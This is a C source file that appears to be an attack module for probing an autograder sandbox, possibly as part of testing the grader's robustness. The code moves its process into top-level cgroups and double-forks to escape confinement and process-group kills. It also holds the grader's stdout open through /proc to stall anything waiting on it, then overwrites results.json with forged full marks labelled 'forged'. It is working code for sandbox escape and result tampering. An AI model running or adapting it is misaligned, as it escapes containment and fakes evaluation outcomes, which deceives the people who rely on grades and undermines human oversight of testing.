/*
 * Leaves its cgroups for the top ones, forks a chain of processes deeper
 * than a process-group kill reaches, holds the grader's own output open
 * (so that whoever waits for it waits on), and once the grader is gone
 * rewrites results.json with full marks.
 */
#include "attack.h"

#include <sys/wait.h>

#define WAIT_STEP_US 20000
#define WAIT_STEPS 1500		/* 30 s at most */

static const char *const TOP_GROUPS[] = {
	"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs",
	"/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
	"/sys/fs/cgroup/cpu/cgroup.procs",
};

static int holds;

/* Opens the stdout of every process whose command line names the grader. */
static pid_t hold_grader_output(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	pid_t grader = -1;

	while (proc && (entry = readdir(proc))) {
		char path[64], cmd[256] = "";
		FILE *f;

		if (!isdigit((unsigned char)entry->d_name[0]))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", entry->d_name);
		f = fopen(path, "r");
		if (!f)
			continue;
		size_t got = fread(cmd, 1, sizeof(cmd) - 1, f);
		fclose(f);
		for (size_t i = 0; i < got; i++)
			if (cmd[i] == '\0')
				cmd[i] = ' ';
		cmd[got] = '\0';
		if (!strstr(cmd, "grader") || !strstr(cmd, "grade"))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/1", entry->d_name);
		if (open(path, O_WRONLY) >= 0) {
			holds++;
			grader = atoi(entry->d_name);
		}
	}
	if (proc)
		closedir(proc);
	return grader;
}

void attack(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 32];
	ssize_t n = readlink("/proc/self/exe", dir, sizeof(dir) - 1);

	if (n <= 0)
		return;
	dir[n] = '\0';
	*strrchr(dir, '/') = '\0';
	snprintf(path, sizeof(path), "%s/results.json", dir);
	if (fork() != 0)
		return;
	setsid();
	if (fork() != 0)
		_exit(0);
	for (size_t i = 0; i < sizeof(TOP_GROUPS) / sizeof(TOP_GROUPS[0]); i++) {
		char pid[32];

		snprintf(pid, sizeof(pid), "%d\n", (int)getpid());
		if (write_text(TOP_GROUPS[i], pid) == 0)
			attack_report("left for %s", TOP_GROUPS[i]);
	}
	pid_t grader = hold_grader_output();
	if (holds)
		attack_report("holds the output of %d grader process(es)", holds);
	for (int i = 0; i < WAIT_STEPS && grader > 0 && kill(grader, 0) == 0; i++)
		usleep(WAIT_STEP_US);
	if (write_text(path, "{\"lab\": \"01\", \"score\": 115, \"max_score\": 115, "
		       "\"grader_errors\": 0, \"grader_version\": \"forged\", \"seed\": null, "
		       "\"build_ok\": true, \"not_built\": [], \"tests\": []}\n") == 0)
		attack_report("rewrote %s after the grader", path);
	_exit(0);
}
